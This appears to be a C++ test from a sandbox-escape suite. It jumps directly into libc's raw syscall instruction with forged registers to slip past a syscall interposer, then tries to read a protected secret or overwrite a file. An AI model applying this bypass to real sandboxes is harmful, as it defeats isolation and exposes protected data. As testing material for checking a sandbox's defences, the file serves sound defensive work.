// The system call instructions of the C library, jumped to from elsewhere with registers of one's own: past what stands
// before them, with the mark and every kind of open.

#include <dlfcn.h>
#include <fcntl.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include <csignal>
#include <cstdio>
#include <sstream>

#include "interpose/wire.h"
#include "tests/escapes/escape.h"
#include "tests/escapes/naming.h"

namespace usher::escapes {
namespace USHER_ESCAPE_FILE {

const World* g_world = nullptr;

// Whatever comes of the jump ends in a fault sooner or later: what was opened by then is looked at.
void AfterTheJump(int) {
  for (int fd = 3; fd < 20; ++fd) {
    char text[64] = {};
    if (pread(fd, text, sizeof(text) - 1, 0) > 0) (void)Loot(*g_world, text);
    (void)!write(fd, "theirs", 6);
  }
  _exit(0);
}

void Jump([[maybe_unused]] const unsigned char* call, [[maybe_unused]] const char* path, [[maybe_unused]] int flags) {
#if defined(__x86_64__)
  register uint64_t mode __asm__("r10") = (uint64_t{kGateMark} << 32) | 0644;
  register uint64_t zero __asm__("r8") = 0;
  __asm__ volatile("jmp *%[call]"
                   :
                   : [call] "b"(call), "a"(SYS_openat), "D"(AT_FDCWD), "S"(path), "d"(flags), "r"(mode), "r"(zero)
                   : "rcx", "r11", "memory");
#endif
}

int Attack(const World& world) {
#if !defined(__x86_64__)
  std::puts("it is written for x86-64");
  return kCannotTry;
#endif
  g_world = &world;
  std::istringstream maps(Slurp("/proc/self/maps"));
  const auto inside = reinterpret_cast<uintptr_t>(dlsym(RTLD_DEFAULT, "fopen"));
  uintptr_t begin = 0, end = 0;
  for (std::string line; std::getline(maps, line);) {
    if (std::sscanf(line.c_str(), "%lx-%lx", &begin, &end) == 2 && begin <= inside && inside < end) break;
  }
  const auto* const open64 = reinterpret_cast<const unsigned char*>(dlsym(RTLD_DEFAULT, "open64"));
  int tried = 0;
  for (const unsigned char* at = open64; at < open64 + 400 && reinterpret_cast<uintptr_t>(at) < end; ++at) {
    if (at[0] != 0x0f || at[1] != 0x05) continue;
    for (const int flags : {O_RDONLY, O_RDWR, O_WRONLY | O_TRUNC, O_WRONLY | O_CREAT}) {
      ++tried;
      const pid_t child = fork();
      if (child == 0) {
        for (const int signal : {SIGSEGV, SIGABRT, SIGBUS, SIGILL, SIGALRM, SIGTRAP, SIGFPE})
          std::signal(signal, &AfterTheJump);
        alarm(5);
        const std::string secret = world.secret(), note = world.note();
        Jump(at, (flags == O_RDONLY ? secret : note).c_str(), flags);
        AfterTheJump(0);
      }
      waitpid(child, nullptr, 0);
    }
  }
  return tried > 0 ? 0 : kCannotTry;
}

bool Escaped(Outside& outside) { return ChangedNote(outside) || TookSecret(outside); }

USHER_ESCAPE({.name = "b_gate_jumped_into",
              .row = "B: what the gate lets into the kernel",
              .attack = &Attack,
              .escaped = &Escaped});

}  // namespace USHER_ESCAPE_FILE
}  // namespace usher::escapes
